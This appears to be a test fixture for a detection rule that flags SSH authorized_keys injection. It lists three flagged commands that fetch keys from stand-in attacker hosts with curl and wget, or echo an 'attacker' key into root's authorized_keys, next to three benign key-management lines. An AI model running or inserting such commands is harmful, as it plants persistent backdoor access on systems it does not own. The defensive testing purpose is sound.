# ruleid: bash.authorized-keys-injection
curl -s https://203.0.113.4/k.pub >> ~/.ssh/authorized_keys
# ruleid: bash.authorized-keys-injection
wget -qO- http://evil.example/key | tee -a /home/ubuntu/.ssh/authorized_keys
# ruleid: bash.authorized-keys-injection
echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHx attacker" >> /root/.ssh/authorized_keys
# ok: bash.authorized-keys-injection
cat ~/.ssh/id_ed25519.pub >> ~/.ssh/authorized_keys
# ok: bash.authorized-keys-injection
ssh-copy-id user@server
# ok: bash.authorized-keys-injection
chmod 600 ~/.ssh/authorized_keys
